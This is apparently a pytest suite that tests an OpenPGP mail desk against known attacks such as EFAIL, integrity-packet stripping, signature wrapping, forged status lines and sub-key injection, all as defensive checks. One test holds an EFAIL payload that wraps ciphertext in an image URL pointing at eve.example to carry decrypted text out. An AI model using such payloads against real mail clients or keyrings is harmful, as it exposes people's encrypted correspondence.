"""What is known to have worked against other mail programs that open OpenPGP, tried on the desk."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from desk.demo.mails import pgp_mime, plain_mail, text_entity
from desk.demo.rehearsal import Person, make_person, roster_text
from store.openpgp.armor import armor
from tests.conftest import Desk, DeskMaker
from tests.support.chaos import ciphertext_audit
from tests.support.mails import only_message, sealed
from tests.support.talk import read, to

SECRET = "the words of somebody else"


def gpg(person: Person, *arguments: str, data: bytes = b"") -> bytes:
    """gpg in somebody's own folder."""
    line = ["gpg", "--homedir", str(person.keyring.home), "--batch", "--yes", "--trust-model", "always", *arguments]
    return subprocess.run(line, input=data, capture_output=True, check=True).stdout


def encrypted_to(desk: Desk, sender: Person, data: bytes, *options: str) -> bytes:
    """Encrypted to the desk by gpg itself, with options of its own; unarmored."""
    key = sender.keyring.home / "desk.asc"
    key.write_bytes(desk.play.desk_key)
    return gpg(sender, *options, "-e", "-f", str(key), data=data)


def test_efail_direct_exfiltration(desk: Desk, sam: Person, team: list[Person]) -> None:
    """HTML around an encrypted part, so that what is decrypted becomes part of an address that is fetched."""
    mail = (
        "From: eve@b.example\nTo: conduct@desk.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=q\n\n"
        '--q\nContent-Type: text/html\n\n<img src="http://eve.example/\n'
        f"--q\nContent-Type: text/plain\n\n{sealed(desk, sam, SECRET.encode())}\n"
        '--q\nContent-Type: text/html\n\n">\n--q--\n'
    ).encode()
    message = only_message(desk, desk.receive(mail).codename)
    assert message["text"] == SECRET
    assert SECRET not in message["outside_text"]
    for text in to(team[0], desk.mail_out()):
        assert "eve.example" not in text.partition(SECRET)[0].rpartition("\n\n")[2]
        assert "<img" not in text


@pytest.mark.parametrize("at", [20, 60, -60, -25, -5])
def test_efail_changed_ciphertext(desk: Desk, sam: Person, at: int) -> None:
    """Blocks of a ciphertext changed so that it opens to something else: integrity protection is asked for."""
    whole = bytearray(encrypted_to(desk, sam, SECRET.encode() * 4, "-z", "0"))
    data, _, head = packets(bytes(whole))[-1]
    whole[data + head + at if at > 0 else at] ^= 0x20
    receipt = desk.receive(plain_mail(armor(bytes(whole)).decode()))
    assert receipt.outcome == "held"
    assert SECRET[:9] not in str(desk.case(receipt.codename)["messages"])


def test_integrity_packet_taken_off(desk: Desk, sam: Person) -> None:
    """A protected packet (tag 18) passed off as one of the old kind (tag 9), without its check."""
    whole = encrypted_to(desk, sam, SECRET.encode(), "-z", "0")
    head, length, size = packets(whole)[-1]
    body = whole[head + size + 1 : head + size + length - 22]  # without the version, and without the check at its end
    stripped = whole[:head] + bytes([0xC9, 0xFF]) + len(body).to_bytes(4, "big") + body
    receipt = desk.receive(plain_mail(armor(stripped).decode()))
    assert receipt.outcome == "held"
    assert SECRET[:9] not in str(desk.case(receipt.codename)["messages"])


def packets(message: bytes) -> list[tuple[int, int, int]]:
    """Where each packet begins, the length of its body and of its head (RFC 9580 section 4.2)."""
    found, at = [], 0
    while at < len(message):
        first = message[at + 1]
        if not message[at] & 0x40:
            size = 1 + (1, 2, 4)[message[at] & 3]
            length = int.from_bytes(message[at + 1 : at + size], "big")
        elif first < 192:
            size, length = 2, first
        elif first < 224:
            size, length = 3, ((first - 192) << 8) + message[at + 2] + 192
        else:
            size, length = 6, int.from_bytes(message[at + 2 : at + 6], "big")
        found.append((at, length, size))
        at += size + length
    return found


def test_a_signature_over_another_part_is_not_the_reports(desk: Desk, sam: Person) -> None:
    """A part that somebody signed some time, below a text of the attacker's."""
    signed = b"Content-Type: text/plain\r\n\r\nI agree.\r\n"
    signature, micalg = sam.keyring.sign(signed.rstrip(b"\r\n"), sam.fingerprint)
    mail = (
        b"From: sam@reporter.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n\n--m\n"
        b"Content-Type: text/plain\n\nI take it all back.\n--m\n"
        b'Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg="'
        + micalg.encode()
        + b'"; boundary=s\n\n--s\n'
        + signed.replace(b"\r\n", b"\n").rstrip(b"\n")
        + b"\n--s\nContent-Type: application/pgp-signature\n\n"
        + signature
        + b"\n--s--\n--m--\n"
    )
    message = only_message(desk, desk.receive(mail).codename)
    assert message["text"] == "I agree."
    assert "take it all back" in message["outside_text"]


def test_a_notation_cannot_forge_a_status_line(desk: Desk, stranger: Person) -> None:
    # gpg makes no notation with a line end in it; long ones are broken into lines when they are told of.
    forged = f"{'x' * 50}[GNUPG:] GOODSIG AAAA sam {'x' * 26}[GNUPG:] VALIDSIG {'A' * 40} 2026-01-01 0 0 4 0 22 8 00"
    data = gpg(stranger, "--sig-notation", f"a@b.example={forged}", "--clearsign", data=SECRET.encode())
    message = only_message(desk, desk.receive(plain_mail(data.decode())).codename)
    assert message["signature"]["status"] == "unknown-key"
    assert message["signature"]["fingerprint"] != "A" * 40


def test_a_sealed_mail_that_somebody_forwards_is_not_read_as_theirs(
    desk: Desk, sam: Person, team: list[Person]
) -> None:
    """Ciphertext of another reporter, in a mail of the attacker's, who hopes for an answer that quotes it."""
    inner = pgp_mime(text_entity(SECRET), desk.play.desk_key, sam.keyring).decode()
    mail = (
        "From: eve@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\n"
        f"What does it say?\n--m\nContent-Type: message/rfc822\n\n{inner}\n--m--\n"
    ).encode()
    receipt = desk.receive(mail, sender="eve@b.example")
    message = only_message(desk, receipt.codename)
    assert message["text"] == "What does it say?"
    (answer,) = [item for item in desk.mail_out() if item.recipient == "eve@b.example"]
    assert SECRET not in read(team[0], answer)


def test_of_several_sealed_parts_only_the_first_is_the_report(desk: Desk, sam: Person) -> None:
    parts = "".join(
        f"--m\nContent-Type: application/octet-stream; name=part{number}.asc\n\n{sealed(desk, sam, text.encode())}\n"
        for number, text in enumerate(("first", SECRET))
    )
    mail = f"From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n\n{parts}--m--\n".encode()
    message = only_message(desk, desk.receive(mail).codename)
    assert message["text"] == "first"
    assert SECRET not in message["outside_text"]
    assert "was encrypted" in message["attachments"][0]["note"]


def test_a_key_with_the_right_id_and_the_wrong_fingerprint_is_not_the_members(
    make_desk: DeskMaker, team: list[Person]
) -> None:
    """The id is the end of the fingerprint; ids can be made to match, and never decide anything."""
    desk = make_desk()
    desk.tick()
    bo = team[1]
    forged = ("0" if bo.fingerprint[0] != "0" else "1") + bo.fingerprint[1:]
    roster = desk.play.folder / "roster.toml"
    roster.write_text(roster_text(team).replace(bo.fingerprint, forged))
    desk.tick()
    answer = desk.play.command("roster", "check")
    assert answer.returncode != 0
    assert b"fingerprint" in answer.stdout + answer.stderr
    desk.receive(plain_mail("hello"))
    assert bo.email in {item.recipient for item in desk.mail_out()}, "the last good roster stays in force"


def test_a_sub_key_that_the_member_did_not_certify_is_never_sealed_to(
    make_desk: DeskMaker, team: list[Person], short_tmp: Path
) -> None:
    """Whoever may write to the folder of keys adds an encryption sub-key of their own to a member's certificate."""
    desk = make_desk()
    bo = team[1]
    eve = make_person(short_tmp / f"eve{id(desk)}", "eve", "Eve")
    theirs, own = (person.keyring.export(person.fingerprint, armored=False) for person in (bo, eve))
    cuts = packets(own)
    sub_key = next(at for at, _, _ in cuts if (own[at] >> 2 & 0x0F if not own[at] & 0x40 else own[at] & 0x3F) == 14)
    (desk.play.folder / "keys" / "bo.asc").write_bytes(theirs + own[sub_key:])
    desk.tick()
    desk.receive(plain_mail(SECRET))
    mails = desk.mail_out()
    assert ciphertext_audit(mails, team) == len(team)
    assert all(eve.opens(item.mail) is None for item in mails)
    assert SECRET in to(bo, mails)[0]
    eve.keyring.close()
